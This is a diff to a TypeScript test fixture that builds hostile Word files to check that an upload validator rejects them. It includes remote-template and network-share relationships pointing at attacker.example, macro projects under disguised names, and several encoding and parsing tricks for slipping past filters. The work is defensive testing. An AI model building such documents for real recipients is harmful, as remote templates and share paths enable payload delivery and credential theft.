@@ -58,6 +58,12 @@ async function movingWebp(): Promise<Buffer> {
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * MEGABYTE);
 const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
+/** A DOCX with one relationship of its settings, as whoever makes it writes that. */
+const related = (attributes: string) => () =>
+  relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
+const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
 const objectList = (content: string) =>
   stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
 
@@ -199,6 +205,121 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
         },
       ]),
     expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template, in single quotes': {
+    bytes: related(FETCHED.replaceAll('"', "'")),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template, with room around the equals sign': {
+    bytes: related(FETCHED.replaceAll('=', '\n = ')),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template, with a letter as a number': {
+    bytes: related(FETCHED.replace('https', '&#104;ttps').replace('External', '&#x45;xternal')),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template under a prefix': {
+    bytes: () =>
+      relatedBy(
+        `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="r" ${FETCHED}/></p:Relationships>`,
+      ),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template in UTF-16': {
+    bytes: () =>
+      relatedBy(Buffer.from(`\ufeff<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'utf16le')),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template in UTF-16, the other way round': {
+    bytes: () =>
+      relatedBy(
+        Buffer.from(`\ufeff<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'utf16le').swap16(),
+      ),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template in an alphabet that is only declared': {
+    bytes: () =>
+      relatedBy(
+        `<?xml version="1.0" encoding="UTF-7"?><Relationships>+ADw-Relationship Id="r" ${FETCHED}/+AD4-</Relationships>`,
+      ),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX that fetches its template behind a long comment': {
+    bytes: () =>
+      relatedBy(`<Relationships><!--${' '.repeat(4 * MEGABYTE)}--><Relationship Id="r" ${FETCHED}/></Relationships>`),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a DOCX that fetches its template out of a part in capitals': {
+    bytes: () =>
+      relatedBy(`<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'word/_RELS/settings.xml.RELS'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template out of a part with a letter as a number': {
+    bytes: () =>
+      relatedBy(`<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'word/_rels/settings.xml.rel%73'),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX that fetches its template out of a part in two pieces': {
+    bytes: () =>
+      makeDocx([
+        { name: 'word/_rels/settings.xml.rels/[0].piece', content: '<Relationships><Relationship Id="r" ' },
+        { name: 'word/_rels/settings.xml.rels/[1].last.piece', content: `${FETCHED}/></Relationships>` },
+      ]),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX that defines a word and fetches its template by that': {
+    bytes: () =>
+      relatedBy(
+        `<!DOCTYPE r [<!ENTITY e "External">]><Relationships><Relationship Id="r" ${FETCHED.replace('"External"', '"&e;"')}/></Relationships>`,
+      ),
+    expected: 'FILE_TOO_COMPLEX',
+  },
+  'a DOCX with a picture from a folder in the net': {
+    bytes: related(
+      `Type="${MEANINGS}/image" Target="file:///\\\\attacker.example\\share\\a.png" TargetMode="External"`,
+    ),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX with a picture from elsewhere that says it is inside': {
+    bytes: related(`Type="${MEANINGS}/image" Target="\\\\attacker.example\\share\\a.png"`),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX with a template from a folder in the net that looks like a disk': {
+    bytes: related(`Type="${MEANINGS}/attachedTemplate" Target="file://C:/share/t.dotm" TargetMode="External"`),
+    expected: 'FILE_EXTERNAL',
+  },
+  'a DOCX whose relationships are no XML': {
+    bytes: () => relatedBy('<Relationships><Relationship></Relationships>'),
+    expected: 'FILE_UNREADABLE',
+  },
+  'a DOCX with links that a reader may follow': {
+    bytes: () =>
+      makeDocx([
+        {
+          name: 'word/_rels/document.xml.rels',
+          content: `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MEANINGS}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${MEANINGS}/hyperlink" Target="https://kaagazz.example/?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId3" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:asha@kaagazz.example" TargetMode="External"/><Relationship Id="rId4" Type="${MEANINGS}/image" Target="../media/a.png" TargetMode="Internal"/></Relationships>`,
+        },
+      ]),
+    expected: { type: 'docx' },
+  },
+  'a DOCM whose macros have another name': {
+    bytes: () =>
+      relatedBy(
+        '<Relationships><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="styles.bin"/></Relationships>',
+        'word/_rels/document.xml.rels',
+      ),
+    expected: 'FILE_MACROS',
+  },
+  'a DOCM that spells its type in numbers': {
+    bytes: () =>
+      makeDocx([
+        {
+          name: '[content_types].XML',
+          content:
+            '<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
+        },
+      ]),
+    expected: 'FILE_MACROS',
   },
   'a DOCX whose template was on its writer’s disk': {
     bytes: () =>
